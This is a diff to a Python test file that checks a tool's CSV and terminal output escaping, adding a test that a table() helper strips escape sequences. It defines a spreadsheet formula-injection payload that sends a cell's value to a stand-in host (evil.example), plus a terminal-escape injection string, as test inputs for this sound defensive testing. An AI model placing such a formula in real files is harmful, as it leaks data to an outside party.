@@ -11,7 +11,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from conftest import cli
-from nodeqc.core.text import FORMULA_START, clean, csv_cell, csv_writer
+from nodeqc.core.text import FORMULA_START, clean, csv_cell, csv_writer, table
 from reports_for_tests import file_report, predicate
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -112,11 +112,13 @@ def test_the_headless_summary_escapes_a_nics_name(tmp_path):
 
 
 def test_clean_and_csv_cell_are_the_one_place():
-    # `show`, fleet, the headless progress and the fabric's all escape through nodeqc.core.text.clean.
+    # `show`, fleet, the headless progress and the fabric's all escape through nodeqc.core.text.clean,
+    # or its table(), which cleans every cell (fleet's rows).
     assert clean("a\x1b[0mb\n") == "a\\x1b[0mb\\n" and csv_cell("=1") == "'=1" and csv_cell(-1.5) == -1.5
+    assert "\x1b" not in "".join(table(["NODE"], [["a\x1b[2Jb\nforged"]], [40]))
     for module in ("cli/fleet", "cli/reports", "cli/run", "fabric/cli"):
         source = (Path(__file__).parent.parent / "nodeqc" / f"{module}.py").read_text()
-        assert re.search(r"from nodeqc\.core\.text import .*clean", source), module
+        assert re.search(r"from nodeqc\.core\.text import .*\b(clean|table)\b", source), module
 
 
 def test_the_fabric_summary_escapes_what_the_workers_said(capsys):
